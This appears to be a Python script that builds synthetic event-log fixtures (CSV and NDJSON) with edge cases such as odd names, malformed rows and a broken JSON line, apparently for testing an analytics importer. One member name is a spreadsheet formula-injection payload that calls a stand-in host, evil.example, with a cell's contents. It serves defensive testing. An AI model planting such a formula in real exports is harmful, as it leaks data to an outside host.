#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""
Make the exports that the tables in v1 came of: `make.py FOLDER` writes events.csv and events.ndjson.

A dozen members over 24 weeks, drawn from a seed: enough for each tier, stage, flag and reason to stand somewhere. Run once,
when the folder was made; the exports are kept, and never made anew.
"""

import json
import random
import sys
from datetime import datetime, timedelta, timezone
from pathlib import Path

WEEKS = 24
BEGIN = datetime(2025, 1, 6, tzinfo=timezone.utc)
HEADER = "time,member,kind,target,quantity,id\n"

FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"me")'
PAT = 'O\'Brien, "Pat"'
KOBAYASHI = "小林"
NAMES = ["ana", "ben", PAT, KOBAYASHI, FORMULA, "two\nlines", "dee", "eve", "fay", "gus", "hal", "ivy"]

# Weeks in which each acts, and how many days a week; what is left of their weeks they are silent.
ACTS = {
    "ana": (range(0, 24), 6),
    "ben": (range(0, 24), 3),
    PAT: (range(0, 9), 4),
    KOBAYASHI: ([*range(0, 6), *range(14, 24)], 3),
    FORMULA: (range(2, 22), 2),
    "two\nlines": ([3, 9, 15, 21], 1),
    "dee": (range(1, 12), 3),
    "eve": ([*range(0, 8), *range(9, 16), *range(20, 24)], 1),
    "fay": (range(4, 10), 2),
    "gus": ([5], 1),
    "hal": ([*range(6, 12), *range(18, 20)], 2),
    "ivy": (range(20, 24), 2),
}
KINDS = ["post", "answer", "like", "comment", "help", "share", "article", "event_join", "vote", "welcome"]

REJECTS = """\
2025-02-30,ana,post,,,
2025-03-03,ana,dance,,,
2025-03-03,ana
2025-03-03,an"a,post,,,
2025-03-03,,post,,,
2025-03-03,ana,like,{long},,
2025-03-03,ana,post,,0,
2100-01-01,ana,post,,,
"""


def cell(text):
    return '"' + text.replace('"', '""') + '"' if any(sign in text for sign in ',"\n') else text


def draw():
    rng = random.Random(7)
    for member, (weeks, days) in ACTS.items():
        for week in weeks:
            # In the last weeks of her time, dee does much less.
            less = member == "dee" and week >= 10
            for day in rng.sample(range(7), 1 if less else days):
                kind = "vote" if less else rng.choice(KINDS)
                at = BEGIN + timedelta(weeks=week, days=day, seconds=rng.randrange(86400))
                aimed = kind in ("like", "comment", "help", "share")
                target = rng.choice([name for name in NAMES[:6] if name != member]) if aimed else ""
                yield at, member, kind, target, rng.choice([1, 1, 2, 5])
    yield BEGIN + timedelta(weeks=12, days=1), "fay", "leave", "", 20


def main():
    folder = Path(sys.argv[1])
    rows = sorted(draw(), key=lambda row: (row[0], row[1]))
    lines = [
        f"{at:%Y-%m-%dT%H:%M:%SZ},{cell(member)},{kind},{cell(target)},{quantity if quantity > 1 else ''},e{number}\n"
        for number, (at, member, kind, target, quantity) in enumerate(rows)
    ]
    half = len(lines) // 2
    again = lines[half]  # with its id: counted once
    text = HEADER + "".join(lines[:half]) + REJECTS.format(long="x" * 256) + again + "".join(lines[half:-20])
    (folder / "events.csv").write_text(text, encoding="utf-8")
    with (folder / "events.ndjson").open("w", encoding="utf-8") as file:
        for number, (at, member, kind, target, quantity) in enumerate(rows[-20:]):
            row = {"time": int(at.timestamp()), "member": member, "kind": kind, "target": target, "quantity": quantity}
            file.write(json.dumps({key: value for key, value in row.items() if value != ""}) + "\n")
            if number == 9:
                file.write('{"time": 1, "member": "ana" "kind": "post"}\n')


if __name__ == "__main__":
    main()
